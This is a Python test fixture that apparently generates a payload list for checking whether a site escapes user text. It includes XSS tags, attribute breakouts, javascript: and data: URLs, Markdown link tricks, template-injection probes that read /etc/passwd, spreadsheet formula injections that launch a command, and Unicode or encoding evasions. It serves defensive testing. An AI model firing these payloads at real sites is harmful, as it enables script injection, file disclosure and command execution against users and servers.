"""Texts that run a script wherever a page forgets to write them as text: our own list, built from families.

Each calls `canary(…)`, which the test puts in every page, or asks something of another site. `HTML` are those that do
so in a page that shows them as they are; the others need a place of their own (an address, a script, a template, a
cell of a sheet).
"""

from __future__ import annotations

from itertools import product

RUN = "canary(1)"
ELSEWHERE = "//elsewhere.example"

_TAGS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src={ELSEWHERE}/a.js></script>",
    f"<script/x>{RUN}</script >",
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}//",
    f"<image src=x onerror={RUN}>",
    f"<img src={ELSEWHERE}/b.png>",
    f"<img srcset={ELSEWHERE}/c.png>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set onbegin={RUN} attributeName=x>",
    f"<svg><image href={ELSEWHERE}/d.png>",
    f"<svg><use href=data:image/svg+xml,<svg/onload={RUN}>#x>",
    f"<svg><style><img src=x onerror={RUN}></style>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<math><style><img src=x onerror={RUN}></style></math>",
    f"<video src=x onerror={RUN}></video>",
    f"<video><source onerror={RUN}></video>",
    f"<video poster={ELSEWHERE}/e.png></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<button autofocus onfocus={RUN}>x</button>",
    f"<a autofocus tabindex=0 onfocus={RUN}>x</a>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<iframe src={ELSEWHERE}/f></iframe>",
    f"<iframe onload={RUN}></iframe>",
    f"<object data={ELSEWHERE}/g></object>",
    f"<object data=x onerror={RUN}></object>",
    f"<embed src={ELSEWHERE}/h>",
    f"<link rel=stylesheet href={ELSEWHERE}/i.css>",
    f"<link rel=stylesheet href=x onerror={RUN}>",
    f"<link rel=prefetch href={ELSEWHERE}/j>",
    f"<style>@import '{ELSEWHERE}/k.css'</style>",
    f"<style onload={RUN}></style>",
    f"<table background={ELSEWHERE}/l.png><tr><td>x</table>",
    f"<p style='background:url({ELSEWHERE}/m.png)'>x</p>",
    f"<style>@keyframes z{{}}</style><b style=animation-name:z onanimationstart={RUN}>x</b>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/n'>",
    f"<base href={ELSEWHERE}/>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
)
_BREAKS = (
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
    "</option></select>",
    "</summary></details>",
    "</a></p></td></table>",
    '"/></svg>',
    "</template>",
    "</noscript>",
    "</pre></code>",
)
_CARRIERS = (f"<img src=x onerror={RUN}>", f"<svg onload={RUN}>", f"<script>{RUN}</script>")

HTML = (*_TAGS, *(f"{start}{carrier}" for start, carrier in product(_BREAKS, _CARRIERS)))

ATTRIBUTES = tuple(
    f"x{quote} {event}={RUN} {rest}"
    for quote in ('"', "'", "`", "&quot;", "&#34;")
    for event, rest in (
        ("onmouseover", "x="),
        ("autofocus onfocus", "x="),
        ("style=position:fixed;inset:0 onpointerenter", "x="),
        ("onanimationstart", "style=animation:x"),
    )
)
ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f" javascript:{RUN}",
    f"\x01javascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"&#106;avascript:{RUN}",
    f"&#x6a;avascript&#58;{RUN}",
    f"java&Tab;script:{RUN}",
    f"javascript%3A{RUN}",
    f"%6aavascript:{RUN}",
    f"javascript://voorbeeld.nl/%0a{RUN}",
    f"javascript:https://voorbeeld.nl/%0a{RUN}",
    f"feed:javascript:{RUN}",
    f"view-source:javascript:{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=",
    f"data:image/svg+xml,<svg onload={RUN}>",
    f"blob:javascript:{RUN}",
    f"tel:030';{RUN}//",
    f'tel:"onclick={RUN}//',
    f"mailto:x@y.nl?body=<script>{RUN}</script>",
    f'mailto:"onclick="{RUN}"@voorbeeld.nl',
    f"https://voorbeeld.nl/'onmouseover={RUN}//",
    f"https://voorbeeld.nl/?q=';{RUN};'",
    f"https://javascript:{RUN}@voorbeeld.nl/",
    f"https://voorbeeld.nl/#javascript:{RUN}",
    f"//voorbeeld.nl/{RUN}",
    "\\\\elsewhere.example\\x",
    f"/\\elsewhere.example/{RUN}",
)
MARKDOWN = (
    f"[x](javascript:{RUN})",
    f"[x](JAVASCRIPT:{RUN})",
    f"[x](java&#115;cript:{RUN})",
    f"[x](javascript&colon;{RUN})",
    f"[x](<javascript:{RUN}>)",
    f"[x](\x01javascript:{RUN})",
    f"[x](data:text/html,{RUN})",
    f"[x](vbscript:{RUN})",
    f"[x](x 'y\" onmouseover={RUN} ')",
    f'[x](x "y&quot; onmouseover={RUN} ")',
    f"[x]: javascript:{RUN}\n\n[x]",
    f"<javascript:{RUN}>",
    f'![x](x"onerror="{RUN})',
    f"![x]({ELSEWHERE}/o.png)",
    f"![x](data:image/svg+xml,<svg onload={RUN}>)",
    f"[![x](x onerror={RUN})](javascript:{RUN})",
    f'[x](//elsewhere.example "</a><img src=x onerror={RUN}>")',
    f"`</code><img src=x onerror={RUN}>`",
    f"| a |\n| --- |\n| <img src=x onerror={RUN}> |",
    f'## Kop {{#x"onmouseover={RUN}}}',
    f"> <img src=x onerror={RUN}>",
    f"- <svg onload={RUN}>",
    f"[^1]: <img src=x onerror={RUN}>",
    f'[@bron"><img src=x onerror={RUN}>]',
    f'[x](ref:service/"onclick={RUN})',
)
TEMPLATES = (
    f"{{{{{RUN}}}}}",
    "{{7*7}}",
    "{{config}}",
    "{% include '/etc/passwd' %}",
    "{{ ''.__class__.__mro__ }}",
    f"${{{RUN}}}",
    f"#{{{RUN}}}",
    f"<%= {RUN} %>",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    "%(naam)s %s {0} {naam}",
    f"[[{RUN}]]",
)
CELLS = (
    "=1+1",
    '=HYPERLINK("//elsewhere.example";"x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "'=1+1",
    '"=1+1"',
    ";=1+1",
)
SIGNS = (
    f"＜script＞{RUN}＜/script＞",
    f"\u202e<script>{RUN}</script>",
    f"<scr\u200bipt>{RUN}</script>",
    f"<\u0131mg src=x onerror={RUN}>",
    f"‹img src=x onerror={RUN}›",
    f"\ufeff<img src=x onerror={RUN}>",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&amp;lt;script&amp;gt;{RUN}",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"\\x3cimg src=x onerror={RUN}\\x3e",
    f"\u2028{RUN}\u2029",
    f"İ<img src=x onerror={RUN}>",
    "Ｔ\u0301\u0301\u0301\u0301\u0301estnaam\u061c\u2066",
)
SCRIPTS = (
    f"</SCRIPT ><img src=x onerror={RUN}>",
    f"<!--<script>{RUN}//-->",
    f"<!--<script></script>{RUN}",
    f'";{RUN};//',
    f"';{RUN};//",
    f'\\";{RUN};//',
    f"\\';{RUN};//",
    f"`${{{RUN}}}`",
    f"*/{RUN}/*",
    f'"}}]}}</script><img src=x onerror={RUN}>',
    f'{{"@type":"x"}}</script><svg onload={RUN}>',
    f"--!><img src=x onerror={RUN}>",
    f"<!-- --><img src=x onerror={RUN}> -->",
    f"<?xml version=1?><x onload={RUN}>",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
)
PAYLOADS = (*HTML, *ATTRIBUTES, *ADDRESSES, *MARKDOWN, *TEMPLATES, *CELLS, *SIGNS, *SCRIPTS)


def packs(longest: int, sep: str = " ", of: tuple[str, ...] = PAYLOADS) -> list[str]:
    """All payloads (or `of`) in texts of at most this many signs, each payload whole."""
    found: list[str] = []
    for payload in of:
        if len(payload) > longest:
            raise ValueError(f"no room for {payload!r}")
        if found and len(found[-1]) + len(sep) + len(payload) <= longest:
            found[-1] += sep + payload
        else:
            found.append(payload)
    return found
